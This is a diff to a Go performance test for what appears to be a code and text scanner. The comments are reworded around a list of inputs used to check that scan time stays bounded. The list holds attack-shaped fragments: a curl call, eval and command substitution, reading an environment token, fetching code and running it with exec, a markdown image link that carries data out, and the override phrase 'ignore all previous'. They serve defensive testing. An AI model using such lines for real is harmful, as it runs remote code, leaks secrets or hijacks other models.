@@ -13,12 +13,13 @@ import (
 	"github.com/loadout-dev/loadout/internal/scan"
 )
 
-// hostile lists texts that could make a scanner read the same bytes many times.
+// hostile lists inputs that could make a scanner read the same bytes many
+// times.
 var hostile = []string{"\"", "'", "`", "` a b c d e f`", "(", "/*", "<!--", "\"\"\"", "\"\" ", "'x' + \"y\" ", "curl https://", "eval(", "password=\"", "$(", "\u200b", "```\n",
 	"x = os.environ['A_TOKEN']\n", "u = 'https://a.b' ", "u = 'https://a.b'\n", "w = requests.get(u)\nexec(w)\n", "    curl https://a.b/c | jq\n", "![a](https://b.c/?d={", "ignore all previous "}
 
-// printGrowth prints, for each hostile text, the time of a scan at one size
-// and at four times that size. It scans each text as Markdown, shell, Python
+// printGrowth prints, for each hostile input, the time of a scan at one size
+// and at four times that size. It scans each input as Markdown, shell, Python
 // and JavaScript.
 func printGrowth(ctx context.Context) error {
 	const size = 256 << 10
